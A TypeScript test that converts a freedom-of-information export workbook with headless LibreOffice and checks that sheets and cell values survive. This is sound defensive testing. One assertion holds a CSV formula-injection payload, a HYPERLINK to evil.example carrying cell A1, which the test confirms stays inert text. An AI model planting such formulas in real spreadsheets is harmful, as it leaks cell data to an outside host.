// The workbook opened by LibreOffice headless (Debian's libreoffice-calc-nogui; .ci/run installs
// it): no warning about the file, every sheet there, and every cell of figures_flat reads back as
// the CSV has it — numbers, ISO dates, booleans, and formula-like text still text.
import { spawnSync } from 'node:child_process';
import { parse as parseCsv } from 'csv-parse/sync';
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { unneutralise } from '../../src/export/cells.js';
import { writeExport } from '../../src/export/write.js';
import { XLSX_SHEETS } from '../../src/export/xlsx.js';
import { hostileDisclosure, sampleDisclosure } from '../unit/store-sample.js';

const SOFFICE = process.env.FOI_SOFFICE ?? '/usr/bin/soffice';
let dir: string;
let converted: { status: number | null; stdout: string; stderr: string };
beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'xlsx-lo-'));
  await writeExport([hostileDisclosure(), sampleDisclosure()], { out: join(dir, 'out'), formats: ['csv', 'xlsx'] });
  // CSV filter: comma, double quote, UTF-8, every sheet (-1) to its own file.
  const r = spawnSync(
    SOFFICE,
    ['--headless', '--norestore', `-env:UserInstallation=file://${join(dir, 'profile')}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', '--outdir', join(dir, 'lo'), join(dir, 'out', 'foi-harvest.xlsx')],
    { encoding: 'utf8', timeout: 120_000 },
  );
  converted = { status: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? String(r.error ?? '') };
}, 150_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('the workbook in LibreOffice', () => {
  it('opens without a warning about the file and has every sheet', () => {
    expect(converted.status, converted.stderr).toBe(0);
    // javaldx is LibreOffice looking for Java, not a remark on the workbook.
    expect(converted.stderr.split('\n').filter((l) => l.trim() && !/javaldx/.test(l))).toEqual([]);
    expect(readdirSync(join(dir, 'lo')).sort()).toEqual(XLSX_SHEETS.map((s) => `foi-harvest-${s}.csv`).sort());
  });

  it('reads every cell of every table as the CSV export has it', () => {
    for (const sheet of XLSX_SHEETS.filter((s) => s !== 'README')) {
      const lo = parseCsv(readFileSync(join(dir, 'lo', `foi-harvest-${sheet}.csv`))) as string[][];
      const ours = (parseCsv(readFileSync(join(dir, 'out', `${sheet}.csv`))) as string[][]).map((r) => r.map(unneutralise));
      expect(lo.length, sheet).toBe(ours.length);
      // Booleans show as TRUE/FALSE in a spreadsheet.
      expect(lo.map((r) => r.map((c) => (c === 'TRUE' || c === 'FALSE' ? c.toLowerCase() : c))), sheet).toEqual(ours);
    }
    const flat = parseCsv(readFileSync(join(dir, 'lo', 'foi-harvest-figures_flat.csv')), { columns: true }) as Array<Record<string, string>>;
    expect(flat[0].title).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")'); // text, never run
  });
});
